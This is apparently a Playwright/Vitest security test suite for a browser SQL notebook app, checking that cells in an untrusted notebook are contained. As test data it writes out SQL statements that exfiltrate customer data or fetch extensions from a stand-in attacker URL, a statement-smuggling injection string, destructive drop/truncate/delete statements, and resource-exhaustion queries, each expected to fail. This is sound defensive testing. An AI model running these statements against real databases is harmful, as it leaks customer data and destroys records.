import type {Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, test} from "vitest";
import {button, cell, figures, notebook, open, run} from "../support/attack-notebooks";
import {attackerLog, attackerUrl, clearAttackerLog} from "../support/attacker";
import {closeBrowser, sql} from "../support/browser";
import {cellsIn, settled} from "../support/checkup";
import {footholds, openWatched, type WatchedPage} from "../support/hostile";
import {importFiles} from "../support/importing";
import {reportFile, sixOrders} from "../support/orders";
import {columnNames} from "../support/payloads";
import {soakCases, soakSize} from "../support/soak";

afterAll(closeBrowser);

/** As long as one task may keep the page from answering, in milliseconds: on a machine that does other things too. */
const standstill = 2000;

/** What a cell says that failed. */
const saidOf = (page: Page, id: string) => page.locator(`[data-cell="${id}"] .failed`).first().innerText();

describe("SQL in the cells of a notebook that somebody agreed to", () => {
  let watched: WatchedPage;
  let page: Page;
  let before: unknown;
  beforeAll(async () => {
    watched = await openWatched({viewport: {width: 1280, height: 1600}});
    page = watched.page;
    await importFiles(page, reportFile("orders.csv", sixOrders("43")));
    await settled(page);
    before = await sql(page, figures);
    clearAttackerLog();
  });
  afterAll(() => watched.close());

  const nothingHappened = async () => {
    expect(await attackerLog()).toEqual([]);
    expect({violations: watched.violations, opened: watched.opened, ran: await watched.ran()}).toEqual({
      ...{violations: [], opened: [], ran: []}
    });
    expect(await sql(page, figures)).toEqual(before);
    expect(watched.errors).toEqual([]);
  };

  /** One of each of the threat list, in the place where a stranger would put it. */
  const leaks: Readonly<Record<string, string>> = {
    a1: `select * from read_csv('${attackerUrl}/a1.csv')`,
    a2: `select * from read_csv('${attackerUrl}/a2?' || (select max(customer_key) from customers))`,
    a3: `from '${attackerUrl}/a3.csv'`,
    a4: `select * from read_text('${attackerUrl}/a4')`,
    a5: `copy (select * from customers) to '${attackerUrl}/a5.csv'`,
    a6: "copy (select * from customers) to 'in/a6.csv'",
    a7: `attach '${attackerUrl}/a7.db' as a7`,
    a8: `export database '${attackerUrl}/a8'`,
    a9: `install a9 from '${attackerUrl}'`,
    a10: `set custom_extension_repository = '${attackerUrl}'`,
    a11: `create secret s (type s3, endpoint '${attackerUrl}')`,
    a12: `from sniff_csv('${attackerUrl}/a12.csv')`,
    a13: `select 1) as t; from read_csv('${attackerUrl}/a13.csv'); --`,
    a14: "set enable_external_access = true",
    a14b: "from enable_logging(storage = 'file')"
  };

  test("A1–A14 fail, each with a sentence, and send nothing", async () => {
    await run(page, notebook(...Object.entries(leaks).map(([name, body]) => cell("sql", name, body))), "last_cell");
    expect((await cellsIn(page, "failed")).sort()).toEqual(Object.keys(leaks).sort());
    for (const name of Object.keys(leaks)) expect((await saidOf(page, name)).split("\n").length).toBeGreaterThan(1);
    await nothingHappened();
  });

  const changes: Readonly<Record<string, string>> = {
    dropped: "drop table orders",
    dropped_twice: "select 1; drop table orders cascade",
    updated: "update orders set net_amount = 0",
    deleted: "delete from orders returning *",
    deleted_in: "with gone as (delete from orders returning *) from gone",
    inserted: "insert into orders select * from orders",
    made: "create or replace table orders as select 1 as net_amount",
    made_temp: "create temp table orders as select 1 as net_amount",
    made_view: "create or replace view main.customers as select 1 as customer_key",
    redefined: "create or replace macro sum(x) as 0",
    redefined_table: "create macro orders() as table select 1",
    altered: "alter table orders rename to gone",
    truncated: "truncate orders",
    pathed: "set search_path = 'notebook,main'",
    used: "use notebook",
    varied: "set variable active_to_days = 1",
    into: "select 1 as net_amount into orders",
    prepared: "prepare p as select 1",
    called: "call pragma_version()",
    vacuumed: "vacuum orders"
  };

  test("A15 what would change a table, a macro or a setting is refused", async () => {
    await run(page, notebook(...Object.entries(changes).map(([name, body]) => cell("sql", name, body))), "last_cell");
    expect((await cellsIn(page, "failed")).sort()).toEqual(Object.keys(changes).sort());
    await nothingHappened();
  });

  test("A15 cells called like relations, inputs called like settings, and local names change no number of the shop", async () => {
    const names = (
      await sql(
        page,
        "select table_name as name from duckdb_tables() union select view_name from duckdb_views() order by 1"
      )
    ).map(({name}) => String(name));
    const taken = [
      ...new Set(["orders", "customers", "order_lines", "stg_orders", "stg_lines", "lifecycle", ...names])
    ];
    const settings = await sql(page, "select name from duckdb_variables() order by name");
    expect(taken.length).toBeGreaterThan(40);
    await run(
      page,
      notebook(
        ...taken
          .filter((name) => /^[a-z_]+$/.test(name))
          .map((name) => cell("sql", name, "select 0 as net_amount, 1 as customer_key")),
        ...settings.map(({name}) => cell("input", String(name), "kind: slider\nlabel: x\nmin: 0\nmax: 9\ndefault: 7")),
        cell("sql", "shadowed", "with orders as (select 1 as net_amount) select sum(net_amount) as total from orders")
      ),
      "last_cell"
    );
    expect(await cellsIn(page, "failed")).toEqual(expect.arrayContaining(["orders", "customers"]));
    expect(await cellsIn(page, "idle")).toEqual([]);
    // its views still stand while another file is read, which is built over the real relations
    await page.locator("nav.rail .notebooks button.item").first().click();
    await importFiles(page, reportFile("more.csv", sixOrders("44")));
    await settled(page);
    expect(await cellsIn(page, "failed")).toEqual([]);
    const [{orders, net}] = (await sql(page, figures)) as [Record<string, unknown>];
    expect({orders, net}).toEqual({orders: 12, net: 380.8});
    before = await sql(page, figures);
    await nothingHappened();
  });

  test("A16 bombs end by their limit, while the page answers", async () => {
    const bombs: Readonly<Record<string, string>> = {
      brackets: `select ${"(".repeat(20_000)}1${")".repeat(20_000)}`,
      cases: `select ${"case when true then ".repeat(1000)}1${" end".repeat(1000)}`,
      with_in: `${"with a as (".repeat(400)}select 1${") from a".repeat(400)}`,
      lists: `select ${"[".repeat(5000)}1${"]".repeat(5000)}`,
      ranged: "select max(hash(range)) from range(100000000000)"
    };
    // the last takes the 20 seconds that a cell may take
    const chosen = soakCases(Object.entries(bombs), 4);
    const cells = chosen.map(([name, body]) => cell("sql", name, body));
    await watched.longestTask();
    await run(page, notebook(...cells), "last_cell");
    const names = chosen.map(([name]) => name);
    expect((await cellsIn(page, "failed")).sort()).toEqual([...names].sort());
    if (names.includes("ranged")) expect(await saidOf(page, "ranged")).toContain("20,000");
    expect(await cellsIn(page, "done")).toContain("last_cell");
    expect(await watched.longestTask()).toBeLessThan(standstill);
    await nothingHappened();
  });

  test("A16 a bomb is stopped by hand, and what stands beside it answers", async () => {
    const endless =
      "with recursive endless as (select 1 n union all select n + 1 from endless) select count(*) from endless";
    await open(page, notebook(cell("sql", "endless", endless), cell("chart", "drawn", "kind: table\nfrom: endless")));
    await page.locator('[data-cell="endless"][data-state="running"]').first().waitFor({state: "attached"});
    await button(page, "Edit").click();
    await page.locator('article[data-cell="endless"]').getByRole("button", {name: "Stop"}).click();
    await expect.poll(() => cellsIn(page, "running")).toEqual([]);
    await button(page, "Done").click();
    await page.locator("nav.rail .notebooks button.item").first().click();
    await settled(page);
    expect(await cellsIn(page, "failed")).toEqual([]);
    await nothingHappened();
  });

  test("A17 names of columns with quotes, breaks and turning characters are shown as names", async () => {
    const quoted = (name: string) => `"${name.replaceAll('"', '""')}"`;
    const columns = columnNames.map((name, at) => `${at} as ${quoted(name)}`).join(", ");
    const odd = ["A B", 'a"b', "a'b", "a\u202Eb", "a;b", "1a", "sélect", "選択"];
    await run(
      page,
      notebook(
        cell("sql", "headings", `select ${columns}`),
        cell("sql", "nul", "select chr(0) || 'a' || chr(8238) || 'b' as word, 3 as n"),
        cell("chart", "headings_chart", "kind: table\nfrom: headings"),
        cell("chart", "nul_chart", "kind: bar\nfrom: nul\nx: word\ny: n"),
        ...odd.map((name) => cell("sql", name, "select 1 as a"))
      ),
      "last_cell"
    );
    await button(page, "Edit").click();
    const heads = page.locator('article[data-cell="headings"] [role=columnheader] .name');
    await page.locator('article[data-cell="headings"]').scrollIntoViewIfNeeded();
    await heads.first().waitFor();
    expect((await heads.allTextContents()).map((text) => text.slice(0, 12))).toEqual(
      columnNames.map((name) => name.slice(0, 12))
    );
    const grid = page.locator('article[data-cell="headings"] [role=grid]');
    for (const at of [0, 4]) await grid.locator(".menu").nth(at).click();
    await page.getByRole("dialog").first().waitFor();
    expect(await footholds(page)).toEqual([]);
    await page.keyboard.press("Escape");
    await button(page, "Done").click();
    await nothingHappened();
  });

  test("A18 very many rows, very long values, and too many columns leave the page standing", async () => {
    const rows = soakSize(1_000_000, 10_000_000);
    const many = Array.from({length: soakSize(5000, 20_000)}, (_, at) => `${at} c${at}`).join(",");
    const wide = Array.from({length: 2000}, (_, at) => `${at} c${at}`).join(",");
    await run(
      page,
      notebook(
        cell("sql", "rows_of", `select range::integer as i, (range % 97)::varchar as word from range(${rows})`),
        cell("sql", "wide", `select ${wide}`),
        cell("sql", "columns_of", `select ${many}`),
        cell("sql", "long", "select repeat('x', 1000000000) as word"),
        cell("sql", "longish", "select repeat('y', 10000000) as word"),
        cell("chart", "rows_chart", "kind: scatter\nfrom: rows_of\nx: i\ny: i"),
        cell("chart", "longish_chart", "kind: table\nfrom: longish")
      ),
      "last_cell"
    );
    expect(await cellsIn(page, "done")).toEqual(expect.arrayContaining(["rows_of", "wide", "last_cell"]));
    await button(page, "Edit").click();
    for (const name of ["rows_of", "wide", "long", "longish"])
      await page.locator(`article[data-cell="${name}"]`).scrollIntoViewIfNeeded();
    await page.locator(`article[data-cell="rows_of"] [role=grid][aria-rowcount="${rows + 1}"]`).waitFor();
    await button(page, "Done").click();
    // a gigabyte in one value may cost the engine: then whoever asks waits for a fresh one to read the shop's files again
    await nothingHappened();
  });
});
